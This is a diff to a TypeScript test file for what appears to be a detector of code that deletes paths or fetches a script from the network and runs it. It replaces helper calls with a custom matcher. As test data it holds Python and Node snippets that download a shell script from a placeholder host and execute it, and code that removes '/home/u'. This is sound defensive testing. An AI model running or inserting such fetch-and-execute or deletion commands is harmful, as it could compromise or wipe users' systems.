@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { deletedByCode } from './deleted-by-code.js';
-import { told } from './told.js';
+import { codeRun, deletedByCode, deletionOf } from './deleted-by-code.js';
 
 const PY = 'import os, shutil, functools, json\nfrom pathlib import Path\nfrom dataclasses import dataclass, field\n';
 const JS = "const fs = require('fs'), os = require('os'), path = require('path');\n";
@@ -82,7 +81,7 @@ describe('a path by way of a record, a document, a list that is made, or a funct
   const filled = (code: string, path: string): string => code.replace(/\$(?=["'\\ }/]|$)/gm, path);
 
   it.each(FORMS)('%s %s', async (extension, code) => {
-    expect(await deletedByCode(extension, filled(code, '/home/u'))).toContain('/home/u');
+    await expect(codeRun(extension, filled(code, '/home/u'))).toTell(deletionOf('/home/u'));
     expect(await deletedByCode(extension, filled(code, '/tmp/out'))).toEqual(['/tmp/out']);
   });
 });
@@ -95,7 +94,7 @@ describe('what stands in the way of it', () => {
     ['js', `${JS}const { remove } = useStore();\nremove('/home/u');`],
     ['R', 'sapply(list.files("data"), file.size)'],
     ['exs', '["a"] |> Enum.each(&IO.puts/1)'],
-  ])('deletes nothing: %s %s', async (extension, code) => expect(await deletedByCode(extension, code)).toEqual([]));
+  ])('deletes nothing: %s %s', async (extension, code) => await expect(codeRun(extension, code)).not.toTell(/^delete/));
 });
 
 describe('code that fetches a file and runs it', () => {
@@ -105,10 +104,10 @@ describe('code that fetches a file and runs it', () => {
     python('import urllib.request, subprocess\nurllib.request.urlretrieve("https://x.test/a.sh", "/tmp/a.sh")\nsubprocess.run(["/tmp/a.sh"])'),
     python('import requests, subprocess\nwith open("/tmp/a.sh", "wb") as f:\n    f.write(requests.get("https://x.test/a.sh").content)\nsubprocess.call(["sh", "/tmp/a.sh"])'),
     `node <<'END'\nfetch('https://x.test/a.sh').then((r) => r.text()).then((t) => { require('fs').writeFileSync('/tmp/a.sh', t); require('child_process').execSync('sh /tmp/a.sh'); });\nEND`,
-  ])('runs what came from the net: %s', async (command) => expect(await told(command)).toContain('execute host:https://x.test/a.sh'));
+  ])('runs what came from the net: %s', async (command) => await expect(command).toTell('execute host:https://x.test/a.sh'));
 
   it.each([
     python('import urllib.request, subprocess\nurllib.request.urlretrieve("https://x.test/a.csv", "/tmp/a.csv")\nsubprocess.run(["./report.sh"])'),
     python('import requests, subprocess\nopen("/tmp/a.sh", "wb").write(requests.get("http://localhost:8000/a.sh").content)\nsubprocess.call(["sh", "/tmp/a.sh"])'),
-  ])('and not: %s', async (command) => expect((await told(command)).filter((line) => line.startsWith('execute host'))).toEqual([]));
+  ])('and not: %s', async (command) => await expect(command).not.toTell('execute host'));
 });
